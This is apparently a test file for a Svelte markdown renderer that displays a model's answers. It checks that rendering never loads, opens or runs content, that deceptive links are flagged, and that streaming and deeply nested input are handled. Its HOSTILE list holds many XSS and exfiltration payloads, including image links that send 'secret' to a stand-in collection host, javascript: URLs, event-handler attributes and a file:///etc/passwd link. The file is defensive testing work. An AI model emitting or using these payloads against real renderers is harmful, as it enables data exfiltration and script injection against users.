import { render } from "@testing-library/svelte";
import { describe, expect, it } from "vitest";
import { Blocks } from "../../src/features/markdown/blocks";
import { pretendsOther } from "../../src/features/markdown/pretends";
import Markdown from "../../src/features/markdown/Markdown.svelte";

const T = "https://collect.example.net/x?d=secret";

/** Ways to make a page load or open something, as seen in the wild. */
const HOSTILE = [
  `![a](${T})`,
  `![a][r]\n\n[r]: ${T}`,
  `![a](<${T}> "t")`,
  `[![a](${T})](${T})`,
  `[a](${T})`,
  `[a][r]\n\n[r]: ${T} "title"`,
  `[r]\n\n[r]: ${T}`,
  `[a]( ${T}\n"t")`,
  `<${T}>`,
  T,
  `www.collect.example.net/x?d=secret`,
  `someone@collect.example.net`,
  `[a](javascript:alert(1))`,
  `[a](JaVaScRiPt:alert(1))`,
  `[a](java\nscript:alert(1))`,
  `[a](data:text/html,<script>alert(1)</script>)`,
  `[a](vbscript:msgbox(1))`,
  `[a](tauri://localhost/consent.html)`,
  `[a](ipc://localhost/consent_answer)`,
  `[a](file:///etc/passwd)`,
  `[a](//collect.example.net/x)`,
  `![a](//collect.example.net/x)`,
  `<img src="${T}">`,
  `<img src=x onerror=alert(1)>`,
  `<IMG SRC=${T}>`,
  `<img srcset="${T} 2x">`,
  `<picture><source srcset="${T}"></picture>`,
  `<svg><image href="${T}"/></svg>`,
  `<svg onload=alert(1)>`,
  `<svg><use href="${T}#a"/></svg>`,
  `<math><mtext><img src=${T}></mtext></math>`,
  `<script src="${T}"></script>`,
  `<script>alert(1)</script>`,
  `<style>@import url(${T});</style>`,
  `<style>body{background:url(${T})}</style>`,
  `<div style="background:url(${T})">a</div>`,
  `<link rel="stylesheet" href="${T}">`,
  `<link rel="preconnect" href="${T}">`,
  `<meta http-equiv="refresh" content="0;url=${T}">`,
  `<base href="${T}">`,
  `<iframe src="${T}"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="${T}"></object>`,
  `<embed src="${T}">`,
  `<video poster="${T}" src="${T}"></video>`,
  `<audio src="${T}" autoplay></audio>`,
  `<a href="${T}" ping="${T}">a</a>`,
  `<area href="${T}">`,
  `<form action="${T}"><button>Allow</button></form>`,
  `<button formaction="${T}">Allow</button>`,
  `<input type=image src="${T}">`,
  `<body background="${T}">`,
  `<table background="${T}"><tr><td>a</td></tr></table>`,
  `<details open ontoggle=alert(1)>a</details>`,
  `<x-element onclick=alert(1)>a</x-element>`,
  `text <b onmouseover=alert(1)>bold</b> text`,
  `&lt;img src=${T}&gt;`,
  `<!-- --><img src=${T}>`,
  `<![CDATA[<img src=${T}>]]>`,
  `| a |\n|---|\n| ![a](${T}) <img src=${T}> |`,
  `> <img src=${T}>\n> ![a](${T})`,
  `- <img src=${T}>\n- [a](${T})\n- [ ] ![a](${T})`,
  `# <img src=${T}> ![a](${T})`,
  "```html\n<img src=" + T + ">\n```",
  "`<img src=" + T + ">`",
  `[^1]: <img src=${T}>\n\na[^1]`,
  `$$\\includegraphics{${T}}$$`,
  '```mermaid\ngraph TD; A-->B; click A href "' + T + '"\n```',
  `\\<img src=${T}\\>`,
  `**<img src=${T}>**`,
  `${"> ".repeat(400)}![a](${T})`,
  `${"[".repeat(2000)}a](${T})`,
  `${"- ".repeat(300)}<img src=${T}>`,
];

const KNOWN = new Set(
  "DIV P H3 H4 H5 H6 UL OL LI BLOCKQUOTE TABLE THEAD TBODY TR TH TD HR BR PRE CODE STRONG EM DEL SPAN SUP SECTION BUTTON SVG PATH RECT LINE CIRCLE POLYLINE".split(
    " ",
  ),
);
const POINTING = [
  "href",
  "src",
  "srcset",
  "style",
  "action",
  "formaction",
  "poster",
  "data",
  "ping",
  "background",
  "srcdoc",
];

function elements(text: string, done: boolean): Element[] {
  const { container, unmount } = render(Markdown, { text, done });
  const found = [...container.querySelectorAll("*")];
  unmount();
  return found;
}

describe("markdown of a model", () => {
  it.each(HOSTILE)("never_loads_opens_or_runs_anything %#", (text) => {
    for (const done of [false, true]) {
      for (const element of elements(text, done)) {
        const name = element.tagName.toUpperCase();
        expect(KNOWN, `${name} from ${text.slice(0, 80)}`).toContain(name);
        for (const attribute of element.attributes) {
          expect(POINTING, `${attribute.name} on ${name}`).not.toContain(attribute.name.toLowerCase());
          expect(attribute.name.toLowerCase().startsWith("on"), attribute.name).toBe(false);
        }
      }
    }
  });

  it("shows_where_a_link_points_and_what_it_says", () => {
    const { container } = render(Markdown, { text: `[the bank](${T})`, done: true });
    expect(container.querySelector("[role=tooltip]")?.textContent).toContain(T);
    expect(container.querySelector("button")?.textContent).toContain("the bank");
  });

  it("draws_a_list_of_hundreds_in_parts_that_are_one_list_with_its_numbers", () => {
    const text = Array.from({ length: 230 }, (_, number) => `${number + 7}. item ${number}`).join("\n");
    const { container } = render(Markdown, { text, done: true });
    expect(container.querySelectorAll("[role=list]")).toHaveLength(1);
    expect(container.querySelectorAll("[role=list] [role=listitem]")).toHaveLength(230);
    const parts = [...container.querySelectorAll("ol")];
    expect(parts.map((part) => [part.getAttribute("role"), part.start, part.children.length])).toEqual([
      ["presentation", 7, 50],
      ["presentation", 57, 50],
      ["presentation", 107, 50],
      ["presentation", 157, 50],
      ["presentation", 207, 30],
    ]);
  });

  it("shows_html_as_the_text_it_is", () => {
    const { container } = render(Markdown, { text: "a <b>b</b> c", done: true });
    expect(container.textContent).toContain("<b>b</b>");
  });

  it("reads_the_same_blocks_piece_by_piece_as_at_once", () => {
    const text =
      "# A\n\nfirst *one*\n\n- a\n- b\n\n  c\n\n```js\nlet x\n\nx\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nend";
    const growing = new Blocks();
    for (let end = 1; end <= text.length; end++) growing.read(text.slice(0, end), false);
    const raw = (tokens: { raw: string }[]) => tokens.map((token) => token.raw.trim());
    expect(raw(growing.read(text, false))).toEqual(raw(new Blocks().read(text, true)));
  });

  it("shows_a_text_that_takes_too_much_work_as_it_is", () => {
    const marks = "_a*".repeat(8_000);
    const [block] = new Blocks().read(marks, true);
    expect(block).toMatchObject({ type: "paragraph", tokens: [{ type: "text", text: marks }] });
    const deep = Array.from({ length: 400 }, (_, depth) => `${"  ".repeat(depth)}- item ${depth}`).join("\n");
    const { container } = render(Markdown, { text: deep, done: true });
    expect(container.querySelectorAll("ul").length).toBeLessThan(20);
    expect(container.textContent).toContain("item 399");
  });

  it("reads_emphasis_in_a_long_answer_as_before", () => {
    const paragraph = "Some *words* and `code`, as [people](https://example.org) write them. ".repeat(8);
    const tokens = new Blocks().read(`${paragraph}\n\n`.repeat(150), true);
    expect(tokens).toHaveLength(150);
    for (const token of tokens) expect(token).toMatchObject({ type: "paragraph" });
    const last = tokens.at(-1) as { tokens: { type: string }[] };
    expect(last.tokens.filter(({ type }) => type === "em")).toHaveLength(8);
  });

  it("keeps_finished_blocks_while_words_stream_in", () => {
    const blocks = new Blocks();
    const [first] = blocks.read("one\n\ntwo", false);
    expect(blocks.read("one\n\ntwo and more", false)[0]).toBe(first);
  });

  it("tells_a_link_that_names_another_place_than_it_points_to", () => {
    expect(pretendsOther("https://bank.example.com", "https://evil.example.net/login")).toBe(true);
    expect(pretendsOther("bank.example.com/login", "https://bank.example.com/other")).toBe(true);
    expect(pretendsOther("someone@bank.example.com", "mailto:someone@evil.example.net")).toBe(true);
    expect(pretendsOther("bank.example.com", "https://www.bank.example.com/login")).toBe(false);
    expect(pretendsOther("the bank", "https://evil.example.net")).toBe(false);
  });
});
